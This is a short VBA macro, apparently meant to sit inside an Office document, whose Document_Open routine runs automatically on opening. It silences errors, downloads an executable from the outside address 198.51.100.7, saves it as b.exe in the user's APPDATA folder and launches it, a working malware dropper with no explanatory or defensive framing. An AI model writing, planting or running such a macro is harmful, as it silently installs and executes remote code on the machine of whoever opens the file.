Private Sub Document_Open()
    On Error Resume Next
    Set h = CreateObject("Microsoft.XMLHTTP")
    h.Open "GET", "http://198.51.100.7/a/b.exe", False
    h.Send
    Set s = CreateObject("ADODB.Stream")
    s.Type = 1
    s.Open
    s.Write h.responseBody
    p = Environ("APPDATA") & "\b.exe"
    s.SaveToFile p, 2
    CreateObject("Shell.Application").ShellExecute p
End Sub
